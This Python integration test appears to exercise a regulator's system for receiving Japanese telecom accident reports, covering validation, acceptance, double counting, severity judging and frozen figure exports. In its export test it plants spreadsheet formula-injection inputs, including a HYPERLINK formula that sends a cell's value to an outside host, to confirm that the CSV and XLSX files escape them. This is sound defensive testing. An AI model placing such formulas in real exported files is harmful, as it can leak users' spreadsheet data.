#!/usr/bin/env python3
"""
Black box: the authority's side. Reports come by file (of another Kaname), API and hand; they are checked for what the law asks of them, sent back or accepted; what was
accepted stays. SQLite and PostgreSQL.
"""
import copy, csv, datetime, hashlib, io, os, sys, time, zipfile
import xml.etree.ElementTree as tree
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from kaname import Checks, Desk, Kaname, on_both

check = Checks()
OCCURRED, RESTORED = "2026-04-10T01:00:00.000Z", "2026-04-10T04:30:00.000Z"
RECEIVED = "received-reports"
INCIDENT = {"title": "データ通信の停止", "operator_class": "telecom.carrier", "occurred_at": OCCURRED, "known_at": OCCURRED, "sector": "情報通信",
            "segments": [{"kind": "stopped", "class": "other", "area": "岩手県", "from": OCCURRED, "to": RESTORED, "value": 42000}],
            "facts": [{"fact": "service_class", "is": "other"}, {"fact": "cause.facility_failure", "is": "own"}, {"fact": "service.only_additional_function", "is": "false"},
                      {"fact": "impact.sufferers", "number": 42000, "per": "other"}]}
# What article 57 asks of a first report, as the pack has it and no field of its own answers.
PLACES = "発生の場所：盛岡の局舎\n復旧の日時（予定を含む）\n　10日 13:30\n原因となった設備の設置場所: 盛岡\n措置の模様：予備系に切り替えた\n"
FIRST = {"subject": "データ通信の停止", "operator": "東北通信", "operator_code": "T-1", "kind": "first", "rule": "jp.telecom.major-accident", "received_at": "2026-04-10T02:00:00.000Z",
         "occurred_at": OCCURRED, "service_class": "other", "area": "岩手県", "users": 42000, "cause": "設備の故障", "text": PLACES, "source": "telephone"}


class World(Desk):
    def __init__(self, postgres):
        k = Kaname(postgres)
        self.token = {login: k.user(login, role) for login, role in (("manager1", "risk_manager"), ("owner1", "risk_owner"), ("viewer1", "viewer"))}
        k.start()
        super().__init__(k, self.token["manager1"], check)

    def duty(self, kind):
        i = self.make("incidents", INCIDENT)
        for _ in range(100):
            found = [d for d in self.get(f"duties?incident={i['id']}&limit=100")["items"] if d["kind"] == kind]
            if found:
                return found[0]
            time.sleep(0.1)
        raise SystemExit("no duty came")

    def paths(self, body, path=RECEIVED + "/document"):
        return {m["path"] for m in self.make(path, body, 422)["mistakes"]}


def by_file(w):
    """What one Kaname writes of a duty, another takes; once."""
    d = w.act("duties", w.duty("first"), "draft", {"draft": PLACES})
    doc = w.get(f"duties/{d['id']}/reports/document")
    check.that(doc["format"] == "kaname-report/1" and doc["operator"]["name"] == "試験市" and doc["report"]["kind"] == "first", "the file says who and what", doc)
    check.that(doc["incident"]["users"] == 42000 and doc["incident"]["duration"] == 210 and doc["incident"]["area"] == "岩手県", "with numbers", doc["incident"])
    check.that(doc["facts"]["facts"]["impact.sufferers"], "and the document of facts", doc["facts"])
    r = w.make(RECEIVED + "/document", doc)
    check.that((r["operator"], r["kind"], r["users"], r["duration"], r["source"], r["state"], r["fiscal_year"]) == ("試験市", "first", 42000, 210, "file", "received", 2026), "received as it was written", r)
    check.that((r["duration_band"], r["users_band"]) == ("120", "30000") and r["text"].startswith("発生の場所"), "in its bands, with its text", r)
    check.that(w.paths(doc) == {"reference"}, "the same file is not taken twice")
    bad = copy.deepcopy(doc)
    bad["report"] |= {"kind": "gossip", "reference": "x", "colour": "red"}
    bad["incident"] |= {"users": "many", "occurred_at": "yesterday"}
    del bad["operator"]["name"]
    check.that(w.paths(bad) == {"report/kind", "report/colour", "incident/users", "incident/occurred_at", "operator/name"}, "all mistakes at once, by path in the file", w.paths(bad))
    check.that(len(w.make(RECEIVED + "/document", bad, 422)["mistakes"]) == 5, "each once")
    check.that(w.paths({"format": "other/1"}) == {"format"}, "another format is none")
    check.that(w.paths({"format": "kaname-report/1", "report": [], "more": 1}) == {"operator", "report", "incident", "more"}, "sections that are missing", w.paths({"format": "kaname-report/1", "report": [], "more": 1}))
    a = w.k.call("POST", w.k.at("units/document"), doc, w.t)
    check.status(a, 404, "other registers receive nothing")
    check.status(w.k.call("POST", w.k.at(RECEIVED + "/document"), doc, w.token["viewer1"]), 403, "who only reads receives nothing")
    ranged = w.make("incidents", INCIDENT | {"facts": [], "segments": [{"kind": "stopped", "class": "other", "area": "岩手県", "from": {"from": OCCURRED, "to": "2026-04-10T01:10:00.000Z"}, "to": RESTORED, "value": {"from": 31000, "to": 50000}},
                                                                        {"kind": "stopped", "class": "emergency_voice", "area": "青森県", "from": OCCURRED, "to": RESTORED, "value": 1000}]})
    check.that(ranged["version"] == 1, "an incident with ranges")


def checked(w):
    """Complete by what the pack says of the duty, in its words."""
    r = w.make(RECEIVED, FIRST)
    check.that(r["state"] == "received", "received", r["state"])
    w.act(RECEIVED, r, "accept", {"number": "1"}, 409)
    w.act(RECEIVED, r, "return", {"comment": "確かめていない"}, 409)
    r = w.act(RECEIVED, r, "check", {})
    check.that(r["state"] == "complete" and not r.get("missing") and "jp.telecom.major-accident.reports/first" in r["checked_by"], "nothing is missing, and against what", r)
    r = w.change(RECEIVED, r, {"text": PLACES.replace("措置の模様：予備系に切り替えた", "措置の模様：")})
    check.that(r["state"] == "received" and not r.get("checked_by"), "changed: to be checked again", r)
    r = w.act(RECEIVED, r, "check", {})
    check.that(r["state"] == "incomplete" and r["missing"] == "措置の模様", "a heading alone says nothing", r.get("missing"))
    w.act(RECEIVED, r, "accept", {"number": "1"}, 409)
    e = w.act(RECEIVED, r, "check", {"found": "措置のもよう"}, 422)
    check.that({m["path"] for m in e["mistakes"]} == {"found"}, "what nobody asks cannot be found", e)
    r = w.act(RECEIVED, r, "check", {"found": "措置の模様"})
    check.that(r["state"] == "complete" and r["found"] == "措置の模様", "a reader may say that it stands elsewhere", r)
    r = w.act(RECEIVED, r, "return", {"comment": "措置をもう少し詳しく"})
    check.that(r["state"] == "returned" and r["comment"], "returned with a comment", r)
    w.act(RECEIVED, r, "check", {}, 409)
    r = w.change(RECEIVED, r, {"text": PLACES})
    r = w.act(RECEIVED, r, "check", {})
    w.act(RECEIVED, r, "accept", {}, 422)
    w.act(RECEIVED, r, "accept", {"number": "R8-1"}, 403, w.token["owner1"])
    r = w.act(RECEIVED, r, "accept", {"number": "R8-1"})
    check.that((r["state"], r["accepted_number"]) == ("accepted", "R8-1"), "accepted under a number", r)
    w.change(RECEIVED, r, {"users": 29999}, 409)
    check.status(w.k.call("DELETE", w.k.at(f"{RECEIVED}/{r['id']}"), token=w.t, headers={"If-Match": f'"{r["version"]}"'}), 409, "what was accepted is not retired")
    w.act(RECEIVED, r, "reopen", {}, 422)
    r = w.act(RECEIVED, r, "reopen", {"why": "利用者数の訂正"})
    r = w.change(RECEIVED, r, {"users": 29999})
    check.that((r["users_band"], r["state"], r.get("accepted_number")) == ("5000", "received", None), "corrected: below thirty thousand", r)
    r = w.act(RECEIVED, w.act(RECEIVED, w.act(RECEIVED, r, "check", {}), "accept", {"number": "R8-1-2"}), "close", {})
    check.that(r["state"] == "closed", "closed")


def lacking(w):
    """Without a rule in the packs: what any report of its kind says. Unknown is said; left out is not."""
    bare = {"subject": "件名", "operator": "青森通信", "kind": "return"}
    r = w.act(RECEIVED, w.make(RECEIVED, bare), "check", {})
    check.that(r["missing"].split("\n") == [x + "（項目）" for x in ("発生した時刻", "役務の区分", "影響を受けた利用者数", "継続時間（分）", "原因")], "a return", r["missing"])
    check.that("パックに定めがない" in r["checked_by"] and r["users_band"] == r["duration_band"] == "open" and r.get("fiscal_year") is None, "and says that no pack asked", r)
    r = w.act(RECEIVED, w.make(RECEIVED, bare | {"occurred_at": {"unknown": "cannot_tell"}, "service_class": "other", "users": {"unknown": "later"}, "duration": {"from": 119, "to": 120}, "cause": "調査中"}), "check", {})
    check.that(r["state"] == "complete" and r["duration_band"] == "open", "unknown is an answer; a range over two bands is in none", r)
    r = w.make(RECEIVED, bare | {"duration": {"from": 120, "to": 299}, "users": {"from": 30000, "to": 99999}, "occurred_at": {"from": "2026-03-31T14:00:00Z", "to": "2026-03-31T14:59:59Z"}})
    check.that((r["duration_band"], r["users_band"], r["fiscal_year"]) == ("120", "30000", 2025), "a range within one band; the last hour of a fiscal year in Japan", r)
    r = w.make(RECEIVED, bare | {"occurred_at": {"from": "2026-03-31T14:59:59Z", "to": "2026-03-31T15:00:00Z"}})
    check.that(r.get("fiscal_year") is None, "over the turn of the year: of neither", r)
    w.make(RECEIVED, {"subject": "件名"}, 422)
    w.make(RECEIVED, bare | {"state": "accepted"}, 422)
    later = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=1)).isoformat(timespec="seconds")
    check.that(w.paths(bare | {"received_at": later, "occurred_at": later}, RECEIVED) == {"received_at", "occurred_at"}, "what has not come")
    check.that(w.paths(bare | {"received_at": "2026-04-01T00:00:00Z", "occurred_at": "2026-04-01T00:00:01Z", "known_at": "2026-04-01T00:00:00Z"}, RECEIVED) == {"received_at", "known_at"}, "in an order that cannot be")
    quarter = w.act(RECEIVED, w.make(RECEIVED, bare | {"rule": "jp.telecom.periodic-accidents", "occurred_at": "2024-05-01T00:00:00Z", "received_at": "2024-08-01T00:00:00Z"}), "check", {})
    check.that("/return" in quarter["checked_by"], "a return of the old regime is held against the pack as well", quarter["checked_by"])


LEVELS = range(5)
RUBRIC = {"title": "事後評価の基準", "criteria": [{"axis": "extent", "level": "3", "text": "三つ以上の都道府県"}], "cells": [{"extent": str(e), "time": str(t), "level": str(max(e, t))} for e in LEVELS for t in LEVELS if e + t < 8]}
JUDGED = {"extent": "2", "time": "3", "safety": "1", "other": "0", "grounds": "範囲は二県、復旧まで半日", "judged_by": "事故検証会議"}


def report(w, operator, users, **more):
    return w.make(RECEIVED, {"subject": f"{operator}の停止", "operator": operator, "kind": "detail", "users": users, "service_class": "other", "received_at": "2026-04-11T00:00:00Z"} | more)


def case(w, *reports, **more):
    return w.make("cases", {"title": "卸元の停止", "reports": [r["id"] for r in reports]} | more)


def joined(w):
    """Whoever buys from a wholesaler in the case is not added again, and it says so (rules of counting: as an interval where it is one)."""
    whole = report(w, "卸通信", 67000, operator_code="W", sector="情報通信", area="岩手県、青森県")
    buyers = [report(w, f"再販{i}", n, wholesale_of=whole["id"], area="秋田県") for i, n in enumerate((12000, 20000, 35000))]
    c = case(w, whole, *buyers)
    check.that((c["users_total"], c["double_counting"], c["operators"]) == (67000, True, 4), "67,000 and not 134,000", c)
    check.that("再販0（12000）" in c["users_why"] and "134000" in c["users_why"], "what was not added, and what it would be", c["users_why"])
    check.that(c["prefectures"] == "岩手県/青森県/秋田県" and c["sectors"] == "情報通信", "as far as the reports reach", c)
    check.that(case(w, *buyers)["users_total"] == 67000 and not case(w, *buyers)["double_counting"], "without the wholesaler they are added")
    named = report(w, "名指し", {"from": 60000, "to": 90000}, wholesaler="卸通信")
    c = case(w, whole, named)
    check.that(c["users_total"] == {"from": 67000, "to": 90000} and c["double_counting"], "named by name, an interval", c)
    check.that(case(w, whole, report(w, "別の再販", 5, wholesaler="w"))["users_total"] == 67000, "by its number, in either case")
    check.that(case(w, whole, report(w, "無関係", 5, wholesaler="卸通信2"))["users_total"] == 67005, "another wholesaler is none")
    old, new = report(w, "続報通信", 30000), report(w, "続報通信", 31000, received_at="2026-04-12T00:00:00Z")
    c = case(w, old, new)
    check.that(c["users_total"] == 31000 and old["number"] in c["users_why"], "of one operator the latest", c)
    c = case(w, new, report(w, "続報通信", 1000, service_class="emergency_voice"))
    check.that(c["users_total"] == {"from": 31000, "to": 32000}, "two classes may be the same people", c)
    c = case(w, new, report(w, "不明通信", {"unknown": "later"}))
    check.that(c["users_total"] == {"unknown": "not_asked"} and c["users_least"] == 31000, "unknown stays unknown, with the least", c)
    a = report(w, "輪A", 10)
    b = report(w, "輪B", 20, wholesale_of=a["id"])
    a = w.change(RECEIVED, a, {"wholesaler": "輪B"})
    check.that(case(w, a, b)["users_total"] in (20, 30) and "自分に戻る" in case(w, a, b)["users_why"], "who sell to each other are told", case(w, a, b))
    check.that(case(w)["users_total"] is None if "users_total" in case(w) else True, "no report, no number")
    w.change(RECEIVED, a, {"wholesale_of": a["id"]}, 422)
    return whole, buyers


def judged(w, whole, buyers):
    """After the event, by the authority's own rubric: the highest axis."""
    e = w.make("severity-rubrics", RUBRIC | {"cells": [{"extent": "1", "time": "1", "level": "3"}, {"extent": "1", "time": "2", "level": "2"}]}, 422)
    check.that([m["path"] for m in e["mistakes"]] == ["cells/1/level"], "a longer time is not milder", e)
    e = w.make("severity-rubrics", RUBRIC | {"criteria": RUBRIC["criteria"] * 2}, 422)
    check.that([m["path"] for m in e["mistakes"]] == ["criteria/1/level"], "one criterion of a level", e)
    rubric = w.make("severity-rubrics", RUBRIC)
    c = case(w, whole, *buyers, begins="2026-04-10T01:00:00Z")
    w.act("cases", c, "judge", JUDGED, 409)
    soon = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(hours=1)).isoformat(timespec="seconds")
    c = w.change("cases", c, {"ends": {"from": "2026-04-10T05:00:00Z", "to": soon}, "rubric": rubric["id"]})
    w.act("cases", c, "judge", JUDGED, 409)  # it may not be over
    w.change("cases", c, {"ends": "2026-04-10T00:59:59Z"}, 422)
    c = w.change("cases", c, {"ends": "2026-04-10T05:00:00Z", "rubric": None})
    w.act("cases", c, "judge", JUDGED, 409)  # by no rubric
    c = w.change("cases", c, {"rubric": rubric["id"]})
    e = w.act("cases", c, "judge", JUDGED | {"extent": "4", "time": "4"}, 422)
    check.that([m["path"] for m in e["mistakes"]] == ["time"], "the rubric has no such cell", e)
    w.act("cases", c, "judge", JUDGED | {"safety": "5"}, 422)
    w.act("cases", c, "judge", JUDGED, 403, w.token["owner1"])
    w.act("cases", c, "close", {"lessons": "早い"}, 409)
    c = w.act("cases", c, "judge", JUDGED)
    check.that((c["state"], c["continuity"], c["severity"]) == ("judged", "3", "3"), "continuity by the table, the highest axis overall", c)
    c = w.change("cases", c, {"summary": "書き足した"})
    check.that(c["state"] == "judged", "words do not undo it", c)
    c = w.change("cases", c, {"reports": [whole["id"]]})
    check.that(c["state"] == "open" and not c.get("severity"), "other reports do", c)
    c = w.act("cases", c, "judge", JUDGED | {"safety": "4"})
    check.that(c["severity"] == "4", "safety alone")
    c = w.act("cases", w.act("cases", c, "close", {"lessons": "予備系の切替えを毎月試す"}), "reopen", {"why": "新しい報告"})
    check.that(c["state"] == "open" and c["lessons"], "opened again")
    c = w.act("cases", w.act("cases", c, "judge", JUDGED), "close", {"lessons": "予備系の切替えを毎月試す"})
    w.change("cases", c, {"title": "別の名前"}, 409)
    empty = w.make("cases", {"title": "空", "ends": "2026-04-10T05:00:00Z", "rubric": rubric["id"]})
    w.act("cases", empty, "judge", JUDGED, 409)
    t = w.tables("cases/reports/overview")
    check.that({"severity": "3", "state": "closed", "n": 1} in [r["values"] for r in t["severities"]], "counted by severity", t["severities"])
    check.that(c["id"] in [r["of"]["id"] for r in t["across"]] and empty["id"] not in [r["of"]["id"] for r in t["across"]], "across prefectures", t["across"])


def counted(w, year, **more):
    query = "&".join(f"{k}={v}" for k, v in more.items())
    return w.tables(f"{RECEIVED}/reports/figures?fiscal_year={year}" + ("&" + query if query else ""))


def values(rows):
    return [r["values"] for r in rows]


def figures(w):
    """A year in figures by one query; frozen with the very versions counted; restated with reasons."""
    made = []
    for i, (occurred, users, minutes, cause, kind) in enumerate([
            ("2022-03-31T14:59:59Z", 500, 119, "設備故障", "return"), ("2022-03-31T15:00:00Z", 499, 120, "設備故障", "return"), ("2022-06-01T00:00:00Z", 30000, 1440, "人為要因", "return"),
            ("2023-03-31T14:59:59Z", 29999, 29, "人為要因", "return"), ("2022-06-01T00:00:00Z", 30000, 120, "設備故障", "detail"), ("2022-06-01T00:00:00Z", 1, 1, "設備故障", "first")]):
        made.append(w.make(RECEIVED, {"subject": f"集計{i}", "operator": "統計通信", "kind": kind, "occurred_at": occurred, "received_at": "2023-05-31T00:00:00Z" if i != 3 else "2023-06-01T00:00:00Z", "service_class": "other",
                                      "users": users, "duration": minutes, "cause": cause}))
    t = counted(w, 2022)
    check.that({r["kind"]: r["n"] for r in values(t["kinds"])} == {"return": 3, "detail": 1}, "the year in Japan; a first report is not counted", t["kinds"])
    check.that({(r["kind"], r["users_band"]): r["n"] for r in values(t["users"])} == {("return", "0"): 1, ("return", "30000"): 1, ("return", "5000"): 1, ("detail", "30000"): 1}, "by users, 以上 at the edge", t["users"])
    check.that({(r["kind"], r["duration_band"]): r["n"] for r in values(t["durations"])} == {("return", "120"): 1, ("return", "1440"): 1, ("return", "0"): 1, ("detail", "120"): 1}, "by duration", t["durations"])
    check.that({(r["kind"], r["cause"]): r["n"] for r in values(t["causes"])} == {("return", "設備故障"): 1, ("return", "人為要因"): 2, ("detail", "設備故障"): 1}, "by cause", t["causes"])
    check.that("cells" not in t, "every combination only where it is asked for")
    t = counted(w, 2022, all="true")
    check.that(sum(r["n"] for r in values(t["cells"])) == 4 and "その他の電気通信役務" in t["cells"][0]["values"]["service_class"], "all together, with the words of the pack", t["cells"])
    check.that({r["kind"]: r["n"] for r in values(counted(w, 2022, cut_off="2023-05-31T00:00:00Z")["kinds"])} == {"return": 2, "detail": 1}, "until the cut-off, its instant included")
    check.that(counted(w, 2022, cut_off="2023-05-30T23:59:59Z")["kinds"] == [], "nothing before it")
    check.that(t["breaks"] == [] and counted(w, 2024)["breaks"] == [], "no rule changed in these years")
    breaks = [r["what"] for r in values(counted(w, 2025)["breaks"])]
    check.that(len(breaks) == 1 and "2025-06-01" in breaks[0] and "報告期限が令和七年六月一日以降" in breaks[0], "from quarter to year", breaks)
    w.get(RECEIVED + "/reports/figures", 400)
    w.get(RECEIVED + "/reports/figures?fiscal_year=2022&cut_off=soon", 400)
    frozen(w, made)


def frozen(w, made):
    body = {"title": "2022年度 公表値", "fiscal_year": 2022, "cut_off": "2023-05-31T00:00:00Z", "reason": "年次の公表"}
    later = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=1)).isoformat(timespec="seconds")
    early = w.make("figure-sets", body | {"cut_off": later})
    w.act("figure-sets", early, "freeze", {}, 409)
    w.get(f"figure-sets/{early['id']}/reports/since", 409)
    first = w.act("figure-sets", w.make("figure-sets", body), "freeze", {})
    check.that((first["state"], first["counted"], sum(r["n"] for r in first["cells"] if r.get("users_band")), sum(r["n"] for r in first["cells"] if r.get("duration_band")), sum(r["n"] for r in first["cells"] if r.get("cause"))) == ("frozen", 3, 3, 3, 3), "frozen", first)
    doc = w.get(f"figure-sets/{first['id']}/reports/members")
    text = "".join(f"{m['id']} {m['version']}\n" for m in doc["members"])
    check.that(doc["intact"] and hashlib.sha256(text.encode()).hexdigest() == first["hash"] == doc["hash"], "anybody can recompute its hash", doc)
    check.that([m["number"] for m in doc["members"]] == [made[i]["number"] for i in (1, 2, 4)], "the very records", doc["members"])
    w.act("figure-sets", first, "freeze", {}, 409)
    w.change("figure-sets", first, {"title": "別の名前"}, 409)
    check.status(w.k.call("DELETE", w.k.at(f"figure-sets/{first['id']}"), token=w.t, headers={"If-Match": f'"{first["version"]}"'}), 409, "what is frozen is not retired")
    one = w.change(RECEIVED, made[1], {"users": 30000})
    check.status(w.k.call("DELETE", w.k.at(f"{RECEIVED}/{made[2]['id']}"), token=w.t, headers={"If-Match": f'"{made[2]["version"]}"'}), 200, "a report is withdrawn")
    w.change(RECEIVED, made[3], {"received_at": "2023-05-30T00:00:00Z"})
    t = w.tables(f"figure-sets/{first['id']}/reports/since")
    check.that({r["change"]: r["n"] for r in values(t["totals"])} == {"added": 1, "gone": 1, "changed": 1}, "what differs now", t["totals"])
    changed = [r for r in t["changes"] if r["values"]["change"] == "changed"]
    check.that([(r["of"]["id"], r["values"]["before"], r["values"]["after"]) for r in changed] == [(one["id"], 1, 2)], "which version", changed)
    check.that(w.get(f"figure-sets/{first['id']}")["cells"] == first["cells"], "the frozen numbers stay")
    e = w.make("figure-sets", body | {"restates": first["id"]}, 422)
    check.that([m["path"] for m in e["mistakes"]] == ["restatement"], "a restatement has reasons", e)
    w.make("figure-sets", body | {"restatement": "訂正"}, 422)
    w.act("figure-sets", w.make("figure-sets", body | {"restates": early["id"], "restatement": "訂正"}), "freeze", {}, 409)
    w.act("figure-sets", w.make("figure-sets", body | {"fiscal_year": 2021, "restates": first["id"], "restatement": "訂正"}), "freeze", {}, 409)
    second = w.act("figure-sets", w.make("figure-sets", body | {"title": "2022年度 訂正値", "restates": first["id"], "restatement": "事業者の訂正"}), "freeze", {})
    check.that(second["counted"] == 3 and second["hash"] != first["hash"], "restated", second)
    t = w.tables(f"figure-sets/{second['id']}/reports/restated")
    check.that({r["change"]: r["n"] for r in values(t["totals"])} == {"added": 1, "gone": 1, "changed": 1}, "against the earlier one", t["totals"])
    w.get(f"figure-sets/{first['id']}/reports/restated", 409)
    check.that({r["change"]: r["n"] for r in values(w.tables(f"figure-sets/{second['id']}/reports/since")["totals"])} == {"added": 0, "gone": 0, "changed": 0}, "nothing since")
    year = w.act("figure-sets", w.make("figure-sets", body | {"fiscal_year": 2025, "title": "2025年度"}), "freeze", {})
    check.that("2025-06-01" in year["breaks"], "it says where a rule changed", year)
    sheet = w.k.call("GET", w.k.at("figure-sets.csv"), token=w.t)
    check.that(sheet.status == 200 and first["hash"] in sheet.body.decode("utf-8-sig"), "as CSV")


def of_csv(text):
    """A report as CSV: blocks of title, headings, rows and note, divided by an empty line."""
    blocks, block = {}, []
    for line in csv.reader(io.StringIO(text)):
        if line:
            block.append(line)
        elif block:
            blocks[block[0][0]], block = block[1:], []
    return blocks


def of_book(data):
    """Its sheets by name, each a list of rows; no cell is a formula."""
    ns, out = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}, {}
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        words = ["".join(x.itertext()) for x in tree.fromstring(z.read("xl/sharedStrings.xml"))] if "xl/sharedStrings.xml" in z.namelist() else []
        for i, sheet in enumerate(tree.fromstring(z.read("xl/workbook.xml")).iterfind("m:sheets/m:sheet", ns)):
            root = tree.fromstring(z.read(f"xl/worksheets/sheet{i + 1}.xml"))
            check.that(not root.findall(".//m:f", ns), "a sheet holds no formula", sheet.get("name"))
            cell = lambda c: words[int(c.findtext("m:v", "", ns))] if c.get("t") == "s" else "".join(c.find("m:is", ns).itertext()) if c.get("t") == "inlineStr" else c.findtext("m:v", "", ns)
            out[sheet.get("name")] = [[cell(c) for c in r.iterfind("m:c", ns)] for r in root.iterfind("m:sheetData/m:row", ns)]
    return out


def row_of(table):
    return dict(zip(table[0], table[1]))


FORMULA = '=HYPERLINK("http://example.jp/?"&A1,"原因")'


def given_out(w):
    """Figures as files that others open: what they are, until when, what they restate and why, where a rule changed; and nothing in them is run."""
    for i, cause in enumerate((FORMULA, "+1", "@SUM(1)", "-2+3", '設備"故障", 一次')):
        w.make(RECEIVED, {"subject": f"出力{i}", "operator": "出力通信", "kind": "return", "occurred_at": "2025-05-01T00:00:00Z", "received_at": "2026-05-01T00:00:00Z", "service_class": "other", "users": 700, "duration": 40, "cause": cause})
    live = w.k.call("GET", w.k.at(RECEIVED + "/reports/figures.csv?fiscal_year=2025&cut_off=2026-05-31T14:59:59Z"), token=w.t)
    check.that(live.status == 200 and live.headers["content-type"].startswith("text/csv") and live.headers["content-disposition"] == 'attachment; filename="received-reports-figures.csv"', "a file with its name", live.headers)
    text = live.body.decode("utf-8-sig")
    blocks = of_csv(text)
    about = row_of(blocks["何の数か"])
    check.that((about["数の性質"], about["年度"], about["締切"]) == ("いま数えた数", "2025", "2026-05-31 23:59:59") and "jp@" in about["規定のパック"], "not frozen, with its cut-off in Japan and the packs", about)
    causes = {r[1] for r in blocks["原因"][1:]}
    check.that({"'" + FORMULA, "'+1", "'@SUM(1)", "'-2+3", '設備"故障", 一次'} <= causes, "what a spreadsheet would run is marked as text", causes)
    check.that(not any(c[:1] in "=+-@" for line in csv.reader(io.StringIO(text)) for c in line if c), "no cell begins as a formula")
    check.that(any("2025-06-01" in r[0] for r in blocks["この年度に変わった規定"][1:]) and "比べるときに" in blocks["この年度に変わった規定"][-1][0], "where a rule changed, with its note", blocks["この年度に変わった規定"])
    body = {"title": "2025年度 公表値", "fiscal_year": 2025, "cut_off": "2026-05-31T14:59:59Z", "reason": "=公表"}
    draft = w.make("figure-sets", body)
    for ending in ("", ".csv", ".xlsx"):
        check.status(w.k.call("GET", w.k.at(f"figure-sets/{draft['id']}/reports/published{ending}"), token=w.t), 409, "what is not frozen is not given out" + ending)
    first = w.act("figure-sets", draft, "freeze", {})
    w.make(RECEIVED, {"subject": "遅れて", "operator": "出力通信", "kind": "return", "occurred_at": "2025-05-01T00:00:00Z", "received_at": "2026-05-02T00:00:00Z", "service_class": "other", "users": 700, "duration": 40, "cause": "後から"})
    second = w.act("figure-sets", w.make("figure-sets", body | {"title": "訂正値", "restates": first["id"], "restatement": "@後から届いた報告"}), "freeze", {})
    path = w.k.at(f"figure-sets/{second['id']}/reports/published")
    book = w.k.call("GET", path + ".xlsx", token=w.t)
    check.that(book.status == 200 and "published.xlsx" in book.headers["content-disposition"], "as a workbook", book.headers)
    sheets, blocks, doc = of_book(book.body), of_csv(w.k.call("GET", path + ".csv", token=w.t).body.decode("utf-8-sig")), w.get(f"figure-sets/{second['id']}/reports/published")
    check.that(list(sheets) == [x["title"]["ja"] for x in doc["tables"]] == list(blocks), "the same tables in all three", (list(sheets), list(blocks)))
    for about in (row_of(sheets["何の数か"]), row_of(blocks["何の数か"])):
        check.that((about["数の性質"], about["数えた記録のハッシュ"]) == ("固定した数", second["hash"]), "frozen, with the hash of what was counted", about)
        check.that(about["訂正する集計"].endswith("2025年度 公表値") and about["訂正の理由"].lstrip("'") == "@後から届いた報告" and about["締切"] == "2026-05-31 23:59:59" and int(about["数えた報告"]) == second["counted"], "what it restates and why, until when", about)
    check.that(row_of(sheets["何の数か"])["何のための集計か"] == "=公表" and row_of(blocks["何の数か"])["何のための集計か"] == "'=公表", "a text in the book, marked in CSV")
    for name in ("区分と利用者数", "区分と継続時間", "原因"):
        n = [sum(int(r[-1]) for r in t[name][1:] if len(r) > 1) for t in (sheets, blocks)]
        check.that(n == [second["counted"]] * 2, "every report stands once in " + name, n)
    check.that([r[1] for r in blocks["まとめ"][1:]] == ["1", "0", "0"] and len(blocks["違う報告"]) == 2 and "REC-" in blocks["違う報告"][1][0], "one was added, by its number", blocks["違う報告"])
    values = doc["tables"][0]["rows"][0]["values"]
    check.that((values["cut_off"], values["hash"], values["restates"]) == ("2026-05-31T14:59:59.000Z", second["hash"], first["id"]) and first["id"] in doc["_titles"], "and for programs", values)
    english = w.k.call("GET", path + ".csv", token=w.t, headers={"Accept-Language": "en"}).body.decode("utf-8-sig")
    check.that("What these figures are" in english and "何の数か" not in english, "in the language asked for")
    check.status(w.k.call("GET", path + ".pdf", token=w.t), 404, "nothing else")
    check.status(w.k.call("GET", w.k.at(f"figure-sets/{second['id']}/reports/members.csv"), token=w.t), 404, "what is no table is not given out as one")
    check.status(w.k.call("GET", w.k.at(RECEIVED + "/reports/figures.xlsx"), token=w.t), 400, "a parameter that is missing")


def run(postgres):
    w = World(postgres)
    by_file(w)
    checked(w)
    lacking(w)
    judged(w, *joined(w))
    figures(w)
    given_out(w)
    w.k.stop()
    check.that('"findings":0' in w.k.command("audit", "verify"), "the history verifies")
    w.k.close()


on_both(run)
check.end()
